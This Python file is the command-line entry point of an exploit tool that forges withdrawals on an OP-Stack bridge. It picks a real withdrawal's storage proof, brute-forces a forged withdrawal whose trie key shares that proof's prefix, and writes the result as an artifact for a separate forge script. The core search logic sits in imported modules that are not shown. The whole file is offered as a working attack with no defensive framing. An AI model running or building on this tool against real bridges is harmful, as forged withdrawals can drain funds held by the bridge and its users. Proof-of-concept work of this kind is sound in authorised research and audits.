"""
Generate a forged withdrawal for an OP-Stack bridge.

Picks a real `MessagePassed` withdrawal whose `sentMessages` storage proof is
short and free of extension nodes, brute-forces a forged withdrawal whose trie
key shares that proof's prefix and writes both into
`<OUTPUT_DIR>/<NETWORK_PREFIX>forgedWithdrawal.json` for a forge script.

Usage:
    # endpoints and addresses from the environment (or .env)
    python main.py

    # override search parameters
    python main.py --max-attempts 10000000 --prefix-margin 2 --workers 4
"""

import argparse
import logging
import os
import random
import sys

from forged_withdrawal.custom_errors import ForgedWithdrawalError, SearchExhaustedError
from forged_withdrawal.op_stack.op_stack import OPStackReader
from forged_withdrawal.pipeline import ForgedWithdrawalPipeline
from forged_withdrawal.utils.config import apply_overrides, load_config

logger = logging.getLogger("forged_withdrawal")

LOG_LEVELS = ["DEBUG", "INFO", "WARNING", "ERROR", "CRITICAL"]


def parse_args(argv=None) -> argparse.Namespace:
    parser = argparse.ArgumentParser(
        description="Generate a forged withdrawal proof from a real withdrawal proof"
    )
    parser.add_argument("--output-dir", help="Directory for the artifact (OUTPUT_DIR)")
    parser.add_argument("--lookback-blocks", type=int, help="L2 blocks to scan for withdrawals")
    parser.add_argument("--max-candidates", type=int, help="Max withdrawals to fetch proofs for")
    parser.add_argument("--prefix-margin", type=int, help="Extra trie key nibbles to match")
    parser.add_argument("--max-attempts", type=int, help="Preimage search ceiling")
    parser.add_argument("--workers", type=int, help="Processes for the preimage search")
    parser.add_argument("--seed", type=int, help="Seed for the gasLimit jitter")
    parser.add_argument(
        "--log-level",
        type=str.upper,
        choices=LOG_LEVELS,
        default=os.getenv("LOG_LEVEL", "INFO").upper(),
        help="Logging level (default: INFO or $LOG_LEVEL)",
    )

    args = parser.parse_args(argv)

    # argparse does not check defaults against `choices`
    if args.log_level not in LOG_LEVELS:
        parser.error(f"invalid LOG_LEVEL {args.log_level!r}, choose from {LOG_LEVELS}")

    return args


def main(argv=None) -> int:
    args = parse_args(argv)

    logging.basicConfig(
        level=args.log_level,
        format="%(asctime)s %(levelname)s %(name)s: %(message)s",
    )

    try:
        config = load_config()

        config = apply_overrides(
            config,
            output_dir=args.output_dir,
            lookback_blocks=args.lookback_blocks,
            max_candidates=args.max_candidates,
            prefix_margin=args.prefix_margin,
            max_attempts=args.max_attempts,
            workers=args.workers,
        )

        rng = random.Random(args.seed) if args.seed is not None else None

        pipeline = ForgedWithdrawalPipeline(OPStackReader(config), config, rng=rng)
        result = pipeline.run()
    except SearchExhaustedError as e:
        logger.error("Preimage search exhausted: %s", e)
        return 2
    except ForgedWithdrawalError as e:
        logger.error("Forged withdrawal generation failed: %s", e)
        return 1

    forged = result.search.candidate

    print("-" * 75)
    print(f"L2 output index: {result.output.index}")
    print(f"L2 block: {result.block.number}")
    print(f"Real withdrawalHash: {result.scan.candidate.event.withdrawal_hash.to_0x_hex()}")
    print(f"Real trie key: 0x{result.scan.trie_key.hex()}")
    print(f"Required prefix: {result.scan.required_prefix}")
    print(f"Forged withdrawalHash: {result.forged_withdrawal_hash.to_0x_hex()}")
    print(f"Forged gasLimit: {forged.gasLimit}, data: 0x{forged.data.hex()}")
    print(f"Artifact: {result.path}")
    print("-" * 75)

    return 0


if __name__ == "__main__":
    sys.exit(main())
